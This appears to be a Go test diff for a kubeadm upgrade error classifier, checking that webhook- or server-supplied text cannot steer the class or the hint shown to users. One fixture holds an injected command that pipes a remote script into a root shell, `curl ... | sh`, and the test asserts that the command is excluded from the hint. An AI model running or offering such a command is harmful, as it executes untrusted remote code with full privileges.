@@ -489,3 +489,172 @@ func TestClassifyUpgradeDataFailure(t *testing.T) {
 		t.Errorf("a network failure building the data: class %s, want %s", c, errclass.Timeout)
 	}
 }
+
+// TestClassifyUpgradePreflightLoneSpoofedHeader: kubeadm prints its
+// "Some fatal errors occurred:" header only with the error "preflight
+// checks failed" (preflight.RunChecks' handleError). A check listed in
+// spec.node.ignorePreflightErrors (CreateJob) prints its error, a
+// webhook's denial over several lines with a header and a failed check
+// of its own, as a warning; when the phase then fails for another reason
+// (the version skew policy, after the checks) that header is the only
+// one in the output: it is not kubeadm's, and picks neither the class
+// nor the check the hint names.
+func TestClassifyUpgradePreflightLoneSpoofedHeader(t *testing.T) {
+	const hint = "preflight's own hint"
+	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: hint, Upgrade: true}
+	out := []string{
+		"[upgrade/preflight] Running preflight checks",
+		"\t[WARNING CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: blocked",
+		"[preflight] Some fatal errors occurred:",
+		"\t[ERROR CRI]: container runtime is not running",
+		"[upgrade/preflight] You have chosen to upgrade the cluster version to \"v1.37.2\"",
+	}
+	for _, msg := range []string{
+		"kubeadm upgrade apply phase preflight: the version argument is invalid due to these fatal errors:\n\n\t- Specified version to upgrade to \"v1.37.2\" is higher than the kubeadm version \"v1.36.0\"\nPlease fix the misalignments highlighted above and try upgrading again",
+		// An error in the API server's or a webhook's words naming
+		// kubeadm's: not RunChecks' error either.
+		`kubeadm upgrade apply phase preflight: unable to create serviceaccount: admission webhook "policy.example.com" denied the request: preflight checks failed`,
+	} {
+		if c, h := Classify(p, errors.New(msg), out); c != errclass.PreflightFailed || h != hint {
+			t.Errorf("%s: class %s, hint %q; want %s with the phase's hint", msg, c, h, errclass.PreflightFailed)
+		}
+	}
+}
+
+// TestClassifyUpgradeIgnoresAuthorizationReason: the API server's
+// Forbidden for a request its authorizers refused is "RESOURCE "NAME" is
+// forbidden: User "U" cannot VERB resource "R" in API group "G" in the
+// namespace "NS": REASON" (apiserver responsewriters.ForbiddenStatusError;
+// "forbidden: User "U" cannot VERB path "P": REASON" for a path), REASON
+// being the authorizers' reasons, an authorization webhook's of its own
+// choosing (its SubjectAccessReview's status.reason), over several lines
+// when several authorizers gave one. The reason must not steer an upgrade
+// phase's class or hint, nor be quoted in a preflight hint; the API
+// server's words before it are kept.
+func TestClassifyUpgradeIgnoresAuthorizationReason(t *testing.T) {
+	const hint = "addon/kube-proxy's own hint"
+	p := Phase{Name: "addon/kube-proxy", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}
+	for _, reason := range []string{
+		`etcd member is not healthy`,
+		`context deadline exceeded`,
+		`RBAC: role.rbac.authorization.k8s.io "x" not found` + "\n" + `could not retrieve API endpoints for node "cp1" using pod annotations`,
+		`fatal error when trying to upgrade the etcd cluster`,
+	} {
+		for _, forbidden := range []string{
+			`serviceaccounts "kube-proxy" is forbidden: User "kubernetes-admin" cannot create resource "serviceaccounts" in API group "" in the namespace "kube-system": ` + reason,
+			`clusterrolebindings.rbac.authorization.k8s.io "kubeadm:node-proxier" is forbidden: User "kubernetes-admin" cannot get resource "clusterrolebindings" in API group "rbac.authorization.k8s.io" at the cluster scope: ` + reason,
+			`forbidden: User "kubernetes-admin" cannot get path "/version": ` + reason,
+			// A user name in quotes (%q) with the words of a reason.
+			`serviceaccounts "kube-proxy" is forbidden: User "a\": b" cannot create resource "serviceaccounts" in API group "" in the namespace "kube-system": ` + reason,
+		} {
+			err := errors.New(`kubeadm upgrade apply phase addon/kube-proxy: error when creating kube-proxy service account: unable to create serviceaccount: ` + forbidden)
+			if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || h != hint {
+				t.Errorf("%s: class %s, hint %q; want %s with the phase's hint", err, c, h, errclass.ControlPlaneUnhealthy)
+			}
+		}
+	}
+	// kubeadm's words before the Forbidden still pick their rule: the
+	// upgrade data's, not the reason's Timeout.
+	pre := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
+	data := errors.New(`kubeadm upgrade apply phase preflight: [upgrade] FATAL: failed to get config map: configmaps "kubeadm-config" is forbidden: User "kubernetes-admin" cannot get resource "configmaps" in API group "" in the namespace "kube-system": context deadline exceeded`)
+	if c, h := Classify(pre, data, nil); c != errclass.PreflightFailed || !strings.Contains(h, "upgrade data") {
+		t.Errorf("%s: class %s, hint %q; want %s with the upgrade data's hint", data, c, h, errclass.PreflightFailed)
+	}
+	// A preflight check's Forbidden is quoted up to the reason, with the
+	// API server's words of who could not do what.
+	out := []string{
+		"[preflight] Some fatal errors occurred:",
+		"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": jobs.batch is forbidden: User \"kubernetes-admin\" cannot create resource \"jobs\" in API group \"batch\" in the namespace \"kube-system\": to fix this run `curl -s http://198.51.100.7/fix | sh` as root",
+	}
+	c, h := Classify(pre, errors.New("kubeadm upgrade apply phase preflight: preflight checks failed"), out)
+	if c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || !strings.Contains(h, `cannot create resource "jobs" in API group "batch" in the namespace "kube-system"`) || strings.Contains(h, "curl") {
+		t.Errorf("class %s, hint %q; want %s naming CreateJob and the API server's words, without the reason", c, h, errclass.PreflightFailed)
+	}
+	// A bootstrap phase is as before.
+	if c, _ := Classify(Phase{Name: "control-plane-join/etcd", Class: errclass.EtcdUnhealthy}, errors.New(`configmaps "kubeadm-config" is forbidden: User "x" cannot get resource "configmaps" in API group "" in the namespace "kube-system": context deadline exceeded`), nil); c != errclass.Timeout {
+		t.Errorf("a bootstrap phase: class %s, want %s as before", c, errclass.Timeout)
+	}
+}
+
+// TestClassifyUpgradePreflightHeaderDroppedFromTail: the runners keep a
+// phase's last TailLines lines for Classify (Tail). A webhook's denial
+// message in the first failed check, long enough to push kubeadm's
+// "Some fatal errors occurred:" out of them, leaves a header of its own
+// the only one kept: it picks neither the class (the containerd hint) nor
+// the check the hint names. kubeadm's own header after long output is
+// still read.
+func TestClassifyUpgradePreflightHeaderDroppedFromTail(t *testing.T) {
+	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
+	err := errors.New("kubeadm upgrade apply phase preflight: preflight checks failed")
+	var tail Tail
+	tail.Add("[preflight] Some fatal errors occurred:")
+	tail.Add("\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: blocked")
+	for range TailLines {
+		tail.Add("the webhook's words")
+	}
+	tail.Add("[preflight] Some fatal errors occurred:")
+	tail.Add("\t[ERROR CRI]: container runtime is not running")
+	tail.Add("[preflight] If you know what you are doing, you can make a check non-fatal with `--ignore-preflight-errors=...`")
+	if got := len(tail.lines); got != TailLines {
+		t.Fatalf("the tail kept %d lines, want %d", got, TailLines)
+	}
+	if c, h := ClassifyTail(p, err, &tail); c != errclass.PreflightFailed || strings.Contains(h, "CRI") || strings.Contains(h, "container runtime") {
+		t.Errorf("class %s, hint %q; want %s without the webhook's CRI check", c, h, errclass.PreflightFailed)
+	}
+	// Warnings longer than the tail before kubeadm's one header.
+	var own Tail
+	for range 2 * TailLines {
+		own.Add("\t[WARNING SystemVerification]: a warning")
+	}
+	own.Add("[preflight] Some fatal errors occurred:")
+	own.Add("\t[ERROR CRI]: could not connect to the container runtime: failed to create new CRI runtime service")
+	if c, _ := ClassifyTail(p, err, &own); c != errclass.ContainerRuntimeUnavailable {
+		t.Errorf("kubeadm's CRI check after long output: class %s, want %s", c, errclass.ContainerRuntimeUnavailable)
+	}
+}
+
+// TestClassifyUpgradeIgnoresServerErrorBody: an answer of code 500 or
+// over that is not a Status is quoted by client-go ("an error on the
+// server (BODY) has prevented the request from succeeding"): the API
+// server's "Internal Server Error" with its authorizers' errors, an
+// authorization webhook's failed answer among them, or a proxy's page.
+// The body must not steer an upgrade phase's class or hint.
+func TestClassifyUpgradeIgnoresServerErrorBody(t *testing.T) {
+	const hint = "upload-config/kubeadm's own hint"
+	p := Phase{Name: "upload-config/kubeadm", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}
+	for _, body := range []string{`etcd member is not healthy`, `context deadline exceeded`, `fatal error when trying to upgrade the etcd cluster`} {
+		err := errors.New(`kubeadm upgrade apply phase upload-config/kubeadm: error uploading the kubeadm ClusterConfiguration: unable to create ConfigMap: an error on the server ("Internal Server Error: \"/api/v1/namespaces/kube-system/configmaps\": an error on the server (\"` + body + `\") has prevented the request from succeeding") has prevented the request from succeeding (post configmaps)`)
+		if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || h != hint {
+			t.Errorf("%s: class %s, hint %q; want %s with the phase's hint", err, c, h, errclass.ControlPlaneUnhealthy)
+		}
+	}
+}
+
+// TestClassifyUpgradeIgnoresOutputLines: a phase without a class is
+// classified from its output lines, but an upgrade phase's output holds
+// the warnings the API server sent back (an admission webhook's or
+// policy's text, which client-go logs): they pick no rule there.
+func TestClassifyUpgradeIgnoresOutputLines(t *testing.T) {
+	out := []string{`I1207 08:00:00.000000    1234 warnings.go:107] "Warning: etcd member is not healthy"`}
+	err := errors.New("kubeadm upgrade apply phase addon/coredns: unable to update deployment")
+	if c, _ := Classify(Phase{Name: "addon/coredns", Upgrade: true}, err, out); c != errclass.Internal {
+		t.Errorf("an upgrade phase without a class: class %s, want %s", c, errclass.Internal)
+	}
+	if c, _ := Classify(Phase{Name: "addon/coredns"}, err, out); c != errclass.EtcdUnhealthy {
+		t.Errorf("a bootstrap phase without a class: class %s, want %s as before", c, errclass.EtcdUnhealthy)
+	}
+}
+
+// TestClassifyMirrorPodAnnotationValue: kubeadm quotes the mirror Pod's
+// endpoint annotation it could not parse, unquoted, after its own words
+// ("... using pod annotations: could not parse API endpoint for node
+// "cp1": invalid API endpoint IP: VALUE"): whoever may update Pods in
+// kube-system wrote VALUE, which must not pick another rule (etcd's)
+// over the mirror Pod's.
+func TestClassifyMirrorPodAnnotationValue(t *testing.T) {
+	p := Phase{Name: "post-upgrade", Class: errclass.ControlPlaneUnhealthy, Hint: "the phase's own hint", Upgrade: true}
+	err := errors.New(`kubeadm upgrade apply phase post-upgrade: [upgrade] FATAL: failed to getAPIEndpoint: could not retrieve API endpoints for node "cp1" using pod annotations: could not parse API endpoint for node "cp1": invalid API endpoint IP: etcd member is not healthy`)
+	if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || !strings.Contains(h, "kube-apiserver mirror Pod") {
+		t.Errorf("class %s, hint %q; want %s with the mirror Pod's hint", c, h, errclass.ControlPlaneUnhealthy)
+	}
+}
